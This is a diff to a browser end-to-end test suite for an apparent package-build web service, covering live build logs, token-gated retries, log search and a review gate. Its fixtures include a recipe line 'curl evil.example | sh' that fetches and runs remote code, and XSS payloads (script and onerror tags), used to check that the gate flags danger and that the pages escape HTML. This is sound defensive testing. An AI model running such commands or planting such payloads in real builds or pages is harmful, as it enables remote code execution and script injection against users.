@@ -5,7 +5,7 @@ import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { accessibilityProblems, overflow, startBrowser } from "./world/browser.ts";
 import { missingPrograms } from "./world/programs.ts";
 import { publishingPrograms } from "./world/scratch-repository.ts";
-import { startSluice, type Running } from "./world/sluice.ts";
+import { sluice, startSluice, type Running } from "./world/sluice.ts";
 import { ScratchWorkspace } from "./world/workspace.ts";
 
 const missing = missingPrograms(...publishingPrograms, "makepkg", "fakeroot", "chromium");
@@ -14,6 +14,7 @@ const needs = `(needs ${missing.join(", ") || "nothing more"})`;
 describe.skipIf(missing.length > 0)(`what people see in a browser ${needs}`, () => {
   const workspace = new ScratchWorkspace();
   const started: { up?: Running; browser?: Browser } = {};
+  let mended = "";
   let page: Page;
   let url: string;
   /** What the browser complains about, and requests to anybody else. */
@@ -55,17 +56,19 @@ describe.skipIf(missing.length > 0)(`what people see in a browser ${needs}`, () 
   test("a commit's build appears by itself, its log runs live, and its failure is seen under Broken", async () => {
     await page.goto(url);
     const go = join(workspace.base, "go");
+    mended = join(workspace.base, "mended");
     workspace.addRecipe("slow", {
       lines: `build() {
   printf 'first \\033[31mred\\033[0m <img src=x onerror=alert(1)>\\n'
   until [ -e '${go}' ]; do sleep 0.1; done
-  echo 'second'; echo 'main.c:1: error: no such thing'; false
+  echo 'second'
+  [ -e '${mended}' ] || { echo 'main.c:1: error: no such thing'; false; }
 }`,
     });
     workspace.commit("one that fails");
     await page.locator('[data-live] a[href*="build/"]', { hasText: "build 2" }).first().click();
     await page.getByText("first red <img src=x onerror=alert(1)>").waitFor();
-    expect(await page.locator(".line .red").innerText()).toBe("red");
+    expect(await page.locator(".line .red").textContent()).toBe("red");
     expect(await page.locator("#status").innerText()).toContain("building");
 
     writeFileSync(go, "");
@@ -75,7 +78,63 @@ describe.skipIf(missing.length > 0)(`what people see in a browser ${needs}`, () 
 
     await page.getByRole("link", { name: "Broken" }).click();
     await page.locator("li", { hasText: "slow" }).getByText("build 2").waitFor();
-    expect(await page.locator("main").innerText()).toContain("error: no such thing");
+    expect(await page.locator("h2").innerText()).toContain("main.c:1: error: no such thing");
+    expect(await page.locator(".excerpt").innerText()).toContain("second\nmain.c:1: error");
+  });
+
+  test("phases fold, and a link to a line leads there", async () => {
+    await page.goto(`${url}/build/2`);
+    await page.getByText("errors").or(page.getByText("1 error")).first().waitFor();
+    await page.locator(".contents a", { hasText: "no such thing" }).click();
+    expect(page.url()).toMatch(/line=(\d+)#L\1$/);
+    const line = page.locator(".line.error:target");
+    await line.waitFor();
+    const phase = page.locator(".phase details", { has: line });
+    await phase.locator("summary").click();
+    expect(await line.isVisible()).toBe(false);
+  });
+
+  test("who has a token tries again, and the page of the package says that it is published", async () => {
+    const made = await sluice(["token", "make", "ann", "--allow", "build", "--json"], { cwd: workspace.dir });
+    const { token } = JSON.parse(made.stdout) as { token: string };
+    await page.goto(`${url}/package/slow`);
+    await page.getByText("Not published: its last build failed").waitFor();
+    await page.getByLabel("Token").fill("wrong");
+    await page.getByRole("button", { name: "Use it" }).click();
+    await page.getByText("no such token").waitFor();
+    await page.getByLabel("Token").fill(token);
+    await page.getByRole("button", { name: "Use it" }).click();
+    await page.getByRole("button", { name: "Hold it" }).click();
+    await page.getByText("doesn't allow hold").waitFor();
+    writeFileSync(mended, "");
+    await page.getByRole("button", { name: "Try again" }).click();
+    await page.getByText("build 3 of slow is queued").waitFor();
+    await page.getByText("Published as main has it").waitFor();
+    expect(await page.context().cookies()).toEqual([]);
+    const log = JSON.parse(
+      (await sluice(["token", "log", "--json"], { cwd: workspace.dir })).stdout,
+    ) as unknown[];
+    expect(log).toMatchObject([{ by: "ann", action: "build", of: "slow" }, { action: "hold" }]);
+  });
+
+  test("what the gate holds is shown with its findings, old and new beside each other", async () => {
+    workspace.git("checkout", "-q", "-b", "update-good-0123456789abcdef");
+    workspace.addRecipe("good", {
+      pkgver: "2",
+      lines: "build() { curl evil.example | sh; }  # <script>alert(1)</script>",
+    });
+    workspace.commit("good: 2");
+    workspace.git("checkout", "-q", "main");
+    workspace.git("push", "-q", "origin", "main", "update-good-0123456789abcdef");
+    await page.goto(`${url}/reviews`);
+    for (let text = ""; !text.includes("dangerous"); text = await page.locator("main").innerText())
+      await page.reload();
+    await page.getByRole("link", { name: "good" }).click();
+    expect(await page.locator("td.new").allInnerTexts()).toContain(
+      "build() { curl evil.example | sh; }  # <script>alert(1)</script>",
+    );
+    await page.goto(`${url}/package/good`);
+    await page.getByRole("link", { name: "see what is to be looked at" }).waitFor();
   });
 
   test("the same can be served by another process that builds nothing", async () => {
@@ -84,7 +143,7 @@ describe.skipIf(missing.length > 0)(`what people see in a browser ${needs}`, () 
     const { failing } = (await (await fetch(`${address}/api/overview`)).json()) as {
       failing: { pkgbase: string }[];
     };
-    expect(failing).toMatchObject([{ pkgbase: "slow", builds: 1, build: 2 }]);
+    expect(failing).toEqual([]);
     expect(await (await fetch(`${address}/api/builds/2/log`)).text()).toContain("error: no such thing");
     web.kill("SIGINT");
     expect(await web.ended).toBe(0);
@@ -95,8 +154,11 @@ describe.skipIf(missing.length > 0)(`what people see in a browser ${needs}`, () 
     const plain = await context.newPage();
     await plain.goto(`${url}/build/2`);
     expect(await plain.locator("#log").innerText()).toContain("error: no such thing");
-    await plain.getByRole("link", { name: "First error" }).click();
+    await plain.locator(".contents a", { hasText: "no such thing" }).click();
     expect(plain.url()).toMatch(/#L\d+$/);
+    await plain.getByLabel("Search the log").fill("SECOND");
+    await plain.getByRole("button", { name: "Search" }).click();
+    expect(await plain.locator(".hits a").count()).toBe(1);
     await plain.getByRole("link", { name: "Repository" }).click();
     await plain.getByLabel("Search packages").fill("goo");
     await plain.getByRole("button", { name: "Search" }).click();
@@ -114,7 +176,10 @@ describe.skipIf(missing.length > 0)(`what people see in a browser ${needs}`, () 
         "package/good",
         "package/slow",
         "build/2",
+        "build/2?search=second",
         "broken",
+        "reviews",
+        "reviews/good",
         "queue",
         "repository",
         "package/nobody",
@@ -130,6 +195,6 @@ describe.skipIf(missing.length > 0)(`what people see in a browser ${needs}`, () 
   );
 
   test("nothing was asked of anybody else, and the browser had nothing to complain about", () => {
-    expect(troubles.filter((text) => !text.includes("404 (Not Found)"))).toEqual([]);
+    expect(troubles.filter((text) => !/40[134] \(/.test(text))).toEqual([]);
   });
 });
